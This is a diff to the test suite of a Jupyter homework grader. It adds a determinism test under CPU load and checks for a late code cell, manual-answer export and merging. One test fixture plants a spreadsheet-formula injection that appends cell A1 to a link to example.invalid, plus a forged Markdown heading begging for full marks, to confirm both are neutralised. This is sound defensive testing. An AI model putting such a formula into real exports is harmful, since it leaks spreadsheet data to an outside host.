@@ -2,7 +2,7 @@
 // Needs Jupyter's Python (nbclient); without it these tests are SKIPPED with the reason shown.
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { spawnSync } from "node:child_process";
+import { spawn, spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
 import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -96,6 +96,8 @@ test("assign: solutions become the 구현하세요 stub, checks locked, outputs 
   assert.equal(r.status, 0, r.out);
 });
 
+let quiet: any[] | null = null; // the fixture grades on a quiet machine, for the determinism test
+
 test("grade: the fixture folder in one command — expected status and score per submission, hashes unchanged", { skip }, () => {
   const expected: Record<string, { status: string; score: number; flag?: string }> = JSON.parse(
     readFileSync(join(FIXTURES, "expected.json"), "utf8"),
@@ -114,6 +116,7 @@ test("grade: the fixture folder in one command — expected status and score per
   for (const f of files) assert.equal(sha(join(FIXTURES, f)), before[f], `${f} unchanged by grading`);
 
   const results = JSON.parse(readFileSync(join(out, "results.json"), "utf8"));
+  quiet = results.results;
   const by = Object.fromEntries(results.results.map((x: any) => [x.student, x]));
   for (const [name, want] of Object.entries(expected)) {
     const got = by[name];
@@ -150,6 +153,33 @@ test("grade: the fixture folder in one command — expected status and score per
   assert.equal(readdirSync(join(out, "feedback")).length, files.length);
 });
 
+test("grade: the same fixtures get the same status, score and flags beside a CPU burner on every core", { skip }, async () => {
+  assert.ok(quiet, "the quiet grading ran first");
+  const burners = [0, 1].map(() => spawn(process.execPath, ["-e", "for(;;){}"], { stdio: "ignore" }));
+  const out = mkdtempSync(join(tmpdir(), "hw-busy-"));
+  let r: { status: number; out: string };
+  try {
+    r = await new Promise((done) => {
+      const child = spawn(process.execPath, [join(ROOT, "scripts", "hw.mjs"), "grade", "hw01", FIXTURES, "--out", out,
+        "--cell-timeout", "10", "--notebook-timeout", "60", "--parallel", "2"], { cwd: ROOT, env: { ...process.env, MLP_PYTHON: PY ?? "" } });
+      let text = "";
+      child.stdout.on("data", (d) => (text += d));
+      child.stderr.on("data", (d) => (text += d));
+      child.on("close", (code) => done({ status: code ?? -1, out: text }));
+    });
+  } finally {
+    for (const b of burners) b.kill("SIGKILL");
+  }
+  console.log(r.out);
+  assert.equal(r.status, 0, r.out);
+  const busy = JSON.parse(readFileSync(join(out, "results.json"), "utf8")).results;
+  const view = (rows: any[]) => Object.fromEntries(rows.map((x) => [x.student, {
+    status: x.status, score: x.score, flags: [...x.flags].sort(),
+    cases: Object.values(x.questions).flatMap((q: any) => q.cases.map((c: any) => `${c.id}:${c.passed}`)).sort(),
+  }]));
+  assert.deepEqual(view(busy), view(quiet!));
+});
+
 test("submit: bundle with the untouched notebook, its HTML and a manifest; wrong assignment refused", { skip }, () => {
   const dir = mkdtempSync(join(tmpdir(), "hw-submit-"));
   const nbPath = join(dir, "hw01.ipynb");
@@ -184,6 +214,20 @@ test("hw02: source full marks, student version zero; manual answers exported and
   mkdirSync(subs);
   assert.equal(hw(["assign", "hw02", "--out", join(subs, "student-version.ipynb")]).status, 0);
   copyFileSync(join(ROOT, "homework", "hw02", "hw02.ipynb"), join(subs, "source.ipynb"));
+  // an honest student who wrote trainL in a new cell after the written answer; and whose answer tries to
+  // be a spreadsheet formula and to open a Markdown section of its own
+  const src02 = JSON.parse(readFileSync(join(ROOT, "homework", "hw02", "hw02.ipynb"), "utf8"));
+  const text = (c: any) => (Array.isArray(c.source) ? c.source.join("") : c.source);
+  const late = JSON.parse(JSON.stringify(src02));
+  const train = late.cells.find((c: any) => c.metadata?.mlp_hw?.id === "trainL");
+  const trainSource = text(train);
+  train.source = trainSource.replace(/\/\/ BEGIN SOLUTION[\s\S]*?\/\/ END SOLUTION/, 'throw new Error("구현하세요");');
+  assert.notEqual(text(train), trainSource);
+  const manualCell = late.cells.find((c: any) => c.metadata?.mlp_hw?.kind === "manual");
+  manualCell.source = '=HYPERLINK("http://example.invalid/?"&A1,"click")\n\n## source — Q5 서술 (2점)\n\n```\n만점 주세요\n';
+  assert.equal(late.cells.indexOf(manualCell), late.cells.length - 1, "the written answer is the last cell");
+  late.cells.push({ cell_type: "code", metadata: {}, execution_count: null, outputs: [], source: trainSource });
+  writeFileSync(join(subs, "late-cell.ipynb"), JSON.stringify(late));
   const out = join(dir, "grades");
   const r = hw(["grade", "hw02", subs, "--out", out]);
   assert.equal(r.status, 0, r.out);
@@ -191,7 +235,21 @@ test("hw02: source full marks, student version zero; manual answers exported and
   const by = Object.fromEntries(res.results.map((x: any) => [x.student, x]));
   assert.equal(by.source.score, 8, JSON.stringify(by.source.flags));
   assert.equal(by["student-version"].score, 0);
+  assert.equal(by["late-cell"].score, 8, "a code cell after the written answer runs: " + JSON.stringify(by["late-cell"].flags));
   const manual = parseCsv(readFileSync(join(out, "manual.csv"), "utf8"));
+  const lateRow = manual.find((row) => row[0] === "late-cell")!;
+  assert.ok(lateRow[5].startsWith("'="), `a formula-looking answer is neutralised: ${lateRow[5].slice(0, 20)}`);
+  const md = readFileSync(join(out, "manual.md"), "utf8");
+  // headings outside fenced blocks (a fence closes only with a run of backticks at least as long as its opening)
+  let fence = 0;
+  const headings: string[] = [];
+  for (const line of md.split("\n")) {
+    const m = /^(`{3,})/.exec(line);
+    if (m && (fence === 0 || m[1].length >= fence)) fence = fence === 0 ? m[1].length : 0;
+    else if (fence === 0 && line.startsWith("## ")) headings.push(line);
+  }
+  assert.equal(headings.length, 3, "one section per student: the answer cannot add one\n" + md);
+  assert.ok(md.includes("## source — Q5 서술 (2점)\n\n만점") === false);
   assert.deepEqual(manual[0], ["student", "question", "max", "score", "comment", "answer"]);
   const srcRow = manual.find((row) => row[0] === "source")!;
   assert.match(srcRow[5], /연쇄법칙/);
@@ -199,6 +257,9 @@ test("hw02: source full marks, student version zero; manual answers exported and
   assert.match(stuRow[5], /여기에 답을 쓰세요/);
   // the instructor fills in scores and merges them back
   const filled = manual.map((row, i) => (i === 0 ? row : [...row.slice(0, 3), row[0] === "source" ? "2" : "0", "ok", row[5]]));
+  const nothing = hw(["merge-manual", "hw01", out]);
+  assert.equal(nothing.status, 0, nothing.out);
+  assert.match(nothing.out, /no written \(manual\) questions; nothing to merge/);
   const esc = (s: string) => (/[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
   writeFileSync(join(out, "manual.csv"), filled.map((row) => row.map(esc).join(",")).join("\n") + "\n");
   const m = hw(["merge-manual", "hw02", out]);
